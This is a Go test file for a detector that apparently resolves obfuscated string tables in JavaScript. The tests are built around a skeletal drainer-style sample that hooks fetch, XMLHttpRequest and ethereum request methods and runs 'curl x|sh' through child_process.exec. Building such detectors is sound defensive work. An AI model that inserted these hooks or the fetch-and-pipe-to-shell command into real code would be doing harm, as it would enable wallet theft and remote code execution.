package js

import (
	"fmt"
	"testing"
)

// A payload in the shape drainers use, hidden behind a generated string
// table: every name a rule looks for goes through the decoder.
func hookBody(ref func(string) string) string {
	return fmt.Sprintf(`const _0xw=window;_0xw[%s]=async function(){return 1};
XMLHttpRequest[%s][%s]=function(){};
const _0xcp=require(%s);_0xcp[%s](%s+%s);
for(const _0xm of [%s,%s]){Object[%s](_0xw[%s],_0xm,{value:1});}`,
		ref("fetch"), ref("prototype"), ref("open"), ref("child_process"), ref("exec"), ref("cur"), ref("l x|sh"),
		ref("request"), ref("sendAsync"), ref("defineProperty"), ref("ethereum"))
}

func TestStringArrayResolution(t *testing.T) {
	variants := []obfOpts{
		{offset: 0x1a3, rotation: 7},
		{offset: 0, rotation: 0},
		{offset: 0x9c, rotation: 19},
		{offset: 0x123, rotation: 3, encoding: "base64"},
		{offset: 0x55, rotation: 11, encoding: "rc4", key: "kQ2x"},
		{offset: 0, rotation: 5, oldStyle: true},
	}
	for _, o := range variants {
		t.Run(fmt.Sprintf("%+v", o), func(t *testing.T) {
			src := obfuscate(hookBody, o)
			f := extract(t, src)
			if f.Mode != ModeAST {
				t.Fatalf("parse: %v\n%s", f.ParseError, src)
			}
			if len(f.StringArrays) != 1 {
				t.Fatalf("string arrays %+v", f.StringArrays)
			}
			sa := f.StringArrays[0]
			if !sa.Resolved || sa.Decoders != 1 || sa.Calls == 0 {
				t.Errorf("string array %+v", sa)
			}
			if o.encoding != sa.Encoding {
				t.Errorf("encoding %q, want %q", sa.Encoding, o.encoding)
			}
			for _, want := range []string{"fetch", "XMLHttpRequest.prototype.open", "ethereum.request", "ethereum.sendAsync"} {
				a := findAssign(f, want)
				if a == nil {
					t.Errorf("no assignment to %s; have %s", want, targets(f))
					continue
				}
				if a.NameOrigin&FromStringArray == 0 {
					t.Errorf("%s: name origin %s, want string-array", want, a.NameOrigin)
				}
			}
			c := findCall(f, "require('child_process').exec")
			if c == nil {
				t.Fatalf("no exec call; have %s", callees(f))
			}
			if a := c.Arg(0); a.Str != "curl x|sh" || a.Origin&FromStringArray == 0 {
				t.Errorf("exec argument %+v", a)
			}
		})
	}
}

func TestStringArrayUnresolvedRotation(t *testing.T) {
	// A rotation loop whose checksum never matches: the table must not be
	// read at a guessed rotation.
	src := obfuscate(hookBody, obfOpts{offset: 0x10, rotation: 4})
	src = replaceOnce(src, "(_0xtab,", "(_0xtab,1+")
	f := extract(t, src)
	if len(f.StringArrays) != 1 || f.StringArrays[0].Resolved {
		t.Fatalf("string arrays %+v", f.StringArrays)
	}
	if findAssign(f, "fetch") != nil {
		t.Errorf("resolved through an unresolved table: %s", targets(f))
	}
}

func TestNoStringArrayInOrdinaryCode(t *testing.T) {
	tests := map[string]string{
		"lookup table": `const names = ['a','b','c','d','e','f','g','h','i','j','k']; function name(i) { return names[i]; }`,
		"month names":  `function month(n) { const m = ['Jan','Feb','Mar','Apr','May','Jun','Jul','Aug','Sep','Oct','Nov','Dec']; return m[n - 1]; }`,
		"error codes":  `var codes = ['E1','E2','E3','E4','E5','E6','E7','E8','E9','E10']; function code(i) { i = i - 1; return codes[i] + '!'; } codes.push(codes.shift());`,
	}
	for name, src := range tests {
		t.Run(name, func(t *testing.T) {
			f := extract(t, src)
			// The last case has every ingredient; it is still one table read
			// through a subtraction, which is what a decoder is, so it may be
			// recognised — but no rotation loop, and nothing hidden.
			for _, sa := range f.StringArrays {
				if sa.Rotated {
					t.Errorf("rotation found in %q: %+v", name, sa)
				}
			}
			if name != "error codes" && len(f.StringArrays) > 0 {
				t.Errorf("string array in ordinary code: %+v", f.StringArrays)
			}
		})
	}
}

func replaceOnce(s, old, new string) string {
	for i := 0; i+len(old) <= len(s); i++ {
		if s[i:i+len(old)] == old {
			return s[:i] + new + s[i+len(old):]
		}
	}
	return s
}
